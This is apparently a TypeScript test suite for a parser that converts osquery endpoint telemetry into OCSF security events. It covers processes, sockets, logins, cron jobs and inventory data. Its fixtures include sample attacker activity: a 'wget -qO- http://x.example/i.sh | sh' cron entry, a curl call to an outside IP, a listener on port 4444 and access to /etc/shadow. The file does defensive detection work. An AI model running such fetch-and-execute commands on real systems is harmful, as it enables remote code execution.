import assert from 'node:assert/strict'
import { test } from 'node:test'
import { CLASS } from '../../ocsf/event.js'
import { corpusOf, corpusReport } from '../../test/corpus.js'
import { eventOf, eventsOf, fixtureCase, RECEIVED, refusalOf, unmappedOf } from '../../test/format-cases.js'
import { osquery } from './osquery.js'

const given = (name: string) => fixtureCase('osquery/results.jsonl', name)
const convert = (name: string) => eventOf(osquery, given(name))

test('process events are launches by their parent, at their own time', () => {
  const event = convert('process event')
  assert.deepEqual([event.class_uid, event.activity_name], [CLASS.process_activity, 'Launch'])
  assert.equal(event.time, 1_768_206_595_000)
  assert.deepEqual([event.process.pid, event.process.cmd_line], [812, 'curl http://203.0.113.5/a'])
  assert.deepEqual(event.process.user, { uid: '0' })
  assert.deepEqual(event.actor, { process: { pid: 700 }, user: { uid: '1000' } })
  assert.equal(event.workload?.uid, 'vm/web-1')
  assert.deepEqual(event.device.os, { name: 'ubuntu', type_id: 200 })
  assert.equal(event.severity_id, 1)
})

test('socket and file events', () => {
  const socket = convert('socket event')
  assert.deepEqual([socket.class_uid, socket.activity_name, socket.status_id], [CLASS.network_activity, 'Open', 1])
  assert.deepEqual(socket.dst_endpoint, { ip: '203.0.113.5', port: 443 })
  assert.equal(socket.connection_info.direction_id, 2)
  assert.equal(socket.actor.process.pid, 812)
  const file = convert('file event')
  assert.deepEqual([file.class_uid, file.activity_name], [CLASS.file_activity, 'Update'])
  assert.equal(file.file.path, '/etc/passwd')
  assert.equal(file.file.hashes[0].value, 'ab'.repeat(32))
})

test('differences: a job is deleted, somebody logged in, ports are opened and closed', () => {
  const job = convert('crontab removed')
  assert.deepEqual([job.class_uid, job.activity_name], [CLASS.scheduled_job_activity, 'Delete'])
  assert.equal(job.job.cmd_line, 'wget -qO- http://x.example/i.sh | sh')
  const login = convert('login')
  assert.deepEqual([login.class_uid, login.activity_name], [CLASS.authentication, 'Logon'])
  assert.deepEqual([login.user.name, login.src_endpoint.ip, login.is_remote], ['ana', '203.0.113.7', true])
  const [opened, closed] = (osquery.split?.(given('batch')) ?? []).map((part) => eventOf(osquery, part))
  assert.deepEqual([opened?.activity_name, opened?.dst_endpoint.port], ['Listen', 4444])
  assert.deepEqual([closed?.activity_name, closed?.dst_endpoint.port], ['Close', 80])
})

test('what is there, or what a process holds, did not begin: services, tasks, open files, keys, devices', () => {
  const row = (name: string, columns: object) =>
    eventOf(osquery, { name, hostIdentifier: 'web-1', unixTime: 1_768_206_600, action: 'added', counter: 1, columns })
  const found = (name: string, columns: object) => row(name, columns).query_evidence
  const service = { name: 'svc', service_type: 'OWN_PROCESS', start_type: 'AUTO_START', pid: '5', path: 'C:\\s.exe' }
  assert.deepEqual(found('services', service).service, { name: 'svc', labels: ['start_type:AUTO_START'] })
  assert.equal(found('process_open_files', { pid: '5', fd: '3', path: '/etc/shadow' }).file.path, '/etc/shadow')
  const map = { pid: '5', start: '0x7f', path: '/lib/x.so', permissions: 'r-xp' }
  assert.equal(found('process_memory_map', map).module.file.path, '/lib/x.so')
  assert.equal(found('pipes', { pid: '5', name: 'lsass', instances: '1' }).file.name, 'lsass')
  const launchd = { label: 'com.x', name: 'x.plist', path: '/x.plist', program_arguments: '/x -d', run_at_load: '1' }
  assert.equal(found('launchd', launchd).startup_item.job.cmd_line, '/x -d')
  const key = { uid: '0', key: 'AAAA', key_file: '/root/.ssh/authorized_keys' }
  assert.equal(found('authorized_keys', key).file.owner.uid, '0')
  const suid = { path: '/bin/su', username: 'root', groupname: 'root', permissions: 'S' }
  assert.equal(found('suid_bin', suid).file.path, '/bin/su')
  assert.equal(found('usb_devices', { vendor: 'V', model: 'M', serial: 's' }).peripheral_device.serial_number, 's')
  const task = row('scheduled_tasks', { name: 't', action: 'x.exe', path: '\\t', enabled: '1', next_run_time: '5' })
  assert.deepEqual([task.class_uid, task.activity_name], [CLASS.scheduled_job_activity, 'Create'])
  const script = row('powershell_events', { script_text: 'whoami', script_block_id: 'b' })
  assert.deepEqual([script.class_uid, script.script.script_content.value], [CLASS.script_activity, 'whoami'])
})

test('snapshots and envelopes are taken apart', () => {
  const users = (osquery.split?.(given('snapshot')) ?? []).map((part) => eventOf(osquery, part))
  assert.deepEqual(
    users.map((event) => event.class_uid),
    [CLASS.user_inventory, CLASS.user_inventory],
  )
  assert.deepEqual(
    users.map((event) => event.user.name),
    ['root', 'ana'],
  )
  assert.equal(users[0]?.time, 1_768_206_600_000)
  const [software] = (osquery.split?.(given('tls logger')) ?? []).flatMap((part) => eventsOf(osquery, part))
  assert.equal(software?.class_uid, CLASS.software_info)
  assert.deepEqual(software?.package, { name: 'netcat', version: '1.2', architecture: 'amd64' })
})

test('status lines, and tables that are not known', () => {
  const status = convert('status')
  assert.deepEqual([status.class_uid, status.severity_id], [CLASS.application_error, 4])
  assert.equal(status.message, 'Error executing query')
  const custom = convert('custom')
  assert.equal(custom.class_uid, CLASS.inventory_info)
  assert.equal(custom.unmapped?.['columns.current_value'], '1')
})

test('where the collector knows the machine, it is the host collector’s', () => {
  const host = { id: 'abc', name: 'web-1' }
  const outcome = osquery.create({})(given('custom'), { received_time: RECEIVED, host })
  assert.equal(outcome.kind === 'ok' ? outcome.value[0]?.workload?.uid : outcome.kind, 'vm/abc')
})

test('refused with a reason', () => {
  assert.match(refusalOf(osquery, { name: 'a' }), /^not_osquery: columns/)
  assert.match(refusalOf(osquery, { name: 'a', columns: [] }), /^not_osquery: columns: required, expected an object/)
  assert.equal(unmappedOf(osquery, { name: 'a', columns: {}, unixTime: 'x' }).unixTime, 'x')
  assert.match(refusalOf(osquery, { name: 'a', columns: {}, unixTime: 99_999_999_999_999 }), /^bad_time/)
})

const shared = corpusOf('osquery', ['parser-corpus/osquery.jsonl', 'panther-tests/Osquery.Differential.jsonl'])
test('all results of the corpus become valid OCSF', { skip: shared ? false : '../shared/data is absent' }, () => {
  const report = corpusReport(osquery, shared ?? [])
  assert.ok(report.events > 30)
  assert.deepEqual([report.rejected, report.dropped, report.problems], [{}, {}, {}])
})

const rowOf = (name: string, columns: object) =>
  eventOf(osquery, { name, action: 'added', hostIdentifier: 'web-1', unixTime: 1_768_206_600, columns })

test("the operating system is the device's; extensions and the agent are software", () => {
  const system = rowOf('os_version', {
    name: 'Ubuntu',
    version: '22.04',
    major: '22',
    platform: 'ubuntu',
    arch: 'x86_64',
  })
  assert.equal(system.class_uid, CLASS.inventory_info)
  assert.deepEqual(system.device.os, { name: 'Ubuntu', version: '22.04', type_id: 200 })
  const extension = rowOf('chrome_extensions', { name: 'Ad', identifier: 'abc', version: '1.2' })
  assert.deepEqual(extension.package, { name: 'Ad', version: '1.2', uid: 'abc' })
  assert.equal(rowOf('pack_x_osquery_info', { version: '5.1', pid: '2' }).package.name, 'osquery')
})

test("hardware is the device's", () => {
  const built = rowOf('system_info', {
    hostname: 'web-1',
    uuid: '4740d59e-699e-5b29-960b-979aaf9bbeeb',
    cpu_type: 'x86_64',
    cpu_brand: 'Example CPU 3.0',
    cpu_physical_cores: '2',
    cpu_logical_cores: '4',
    physical_memory: '8589934592',
    hardware_vendor: 'Example Inc.',
    hardware_model: 'Cloud 7',
    hardware_serial: 'ec2-1',
  })
  assert.equal(built.class_uid, CLASS.inventory_info)
  assert.equal(built.device.model, 'Cloud 7')
  assert.deepEqual(built.device.hw_info, {
    vendor_name: 'Example Inc.',
    serial_number: 'ec2-1',
    uuid: '4740d59e-699e-5b29-960b-979aaf9bbeeb',
    cpu_type: 'Example CPU 3.0',
    cpu_architecture: 'x86_64',
    cpu_architecture_id: 1,
    cpu_cores: 4,
    ram_size: 8192,
  })
  const firmware = rowOf('platform_info', { vendor: 'SeaBIOS', version: '1.16', date: '04/01/2014', revision: '0.0' })
  assert.deepEqual(firmware.device.hw_info, { bios_manufacturer: 'SeaBIOS', bios_ver: '1.16', bios_date: '04/01/2014' })
})

test('what starts with the machine is evidence of its kind', () => {
  const item = rowOf('startup_items', { name: 'x', path: '/etc/init.d/x', status: 'enabled', type: 'Startup Item' })
  assert.equal(item.query_evidence.query_type_id, 15)
  assert.equal(item.query_evidence.startup_item.job.file.path, '/etc/init.d/x')
  const unit = rowOf('systemd_units', { id: 'x.service', fragment_path: '/etc/systemd/system/x.service' })
  assert.deepEqual(unit.query_evidence.service, { name: 'x.service' })
})

test('who logs in before there is a session is in the message; times of files; directories without quotes', () => {
  const user = rowOf('user_events', {
    auid: '4294967295',
    pid: '6',
    message: 'op=login acct="eve"',
    type: '1112',
    path: '/usr/sbin/sshd',
    address: '2001:db8::7',
    terminal: 'ssh',
  })
  assert.deepEqual([user.user, user.src_endpoint.ip], [{ name: 'eve' }, '2001:db8::7'])
  const file = rowOf('file_events', { target_path: '/etc/passwd', action: 'UPDATED', mtime: '1768206500' })
  assert.equal(file.file.modified_time, 1_768_206_500_000)
  assert.equal(file.unmapped, undefined)
  const launch = rowOf('process_events', {
    cmdline: 'ls',
    cwd: '"/tmp"',
    path: '/bin/ls',
    pid: '7',
    parent: '1',
    auid: '0',
    time: '1768206500',
  })
  assert.equal(launch.process.working_directory, '/tmp')
})
